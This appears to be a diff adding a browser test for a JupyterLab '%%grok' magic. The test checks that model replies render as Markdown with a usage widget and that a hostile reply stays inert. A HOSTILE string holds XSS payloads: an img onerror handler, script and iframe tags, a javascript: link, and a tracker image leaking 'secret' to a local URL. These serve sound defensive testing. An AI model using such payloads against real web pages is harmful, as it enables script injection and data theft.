@@ -1,0 +1,58 @@
+"""%%grok in a real JupyterLab: rendered Markdown, the usage widget, and inert hostile answers."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.sync_api import expect
+from xai_standin import FAKE_KEY, Reply
+
+from .conftest import open_notebook, run_all, screenshot, write_notebook, xss_fired
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = (
+    "**Bold answer** with <img src=x onerror=\"window.__grok_xss=1\"> and "
+    "<script>window.__grok_xss=2</script>\n\n"
+    "![tracker](http://127.0.0.1:9/leak.png?d=secret) "
+    "[click me](javascript:window.__grok_xss=3)\n\n"
+    "<iframe src=\"javascript:parent.__grok_xss=4\"></iframe>\n"
+)
+
+
+def test_grok_cell_renders_markdown_usage_and_nothing_hostile(jupyterlab, page, request):
+    srv = request.config._xai_standin
+    srv.reset()
+    srv.enqueue(Reply(content="# Olá\n\nA **bold** answer with `code`.\n\n- one\n- two\n",
+                      delay=0.02),
+                Reply(content=HOSTILE))
+    write_notebook(jupyterlab.root, "grok.ipynb", [
+        "%load_ext grok_magic",
+        "%%grok\nSay hi in Portuguese",
+        "%%grok\nNow something dangerous",
+    ])
+    open_notebook(page, jupyterlab, "grok.ipynb")
+    run_all(page)
+
+    cells = page.locator(".jp-CodeCell")
+    first = cells.nth(1)
+    expect(first.locator(".jp-RenderedMarkdown strong", has_text="bold")).to_have_count(1)
+    expect(first.locator(".jp-RenderedMarkdown h1", has_text="Olá")).to_have_count(1)
+    expect(first.locator(".jp-RenderedMarkdown li")).to_have_count(2)
+    usage = first.locator(".grok-usage")
+    expect(usage.first).to_be_visible()
+    expect(usage.first).to_contain_text("completion")
+    expect(usage.first).to_contain_text("grok-4.3")
+    expect(usage.first).to_contain_text("$")
+
+    second = cells.nth(2)
+    expect(second.locator(".jp-RenderedMarkdown strong", has_text="Bold answer")).to_have_count(1)
+    expect(second.locator(".jp-RenderedMarkdown a", has_text="tracker")).to_have_count(1)
+    assert second.locator(".jp-OutputArea img").count() == 0
+    assert second.locator(".jp-OutputArea iframe, .jp-OutputArea script").count() == 0
+    links = second.locator(".jp-OutputArea a").evaluate_all("els => els.map(e => e.href)")
+    assert not any(h.lower().startswith("javascript:") for h in links), links
+    page.wait_for_timeout(500)
+    assert page.evaluate("() => window.__grok_xss") is None
+    assert not xss_fired(page)
+    assert FAKE_KEY not in page.content()
+    screenshot(page, "grok-cells")
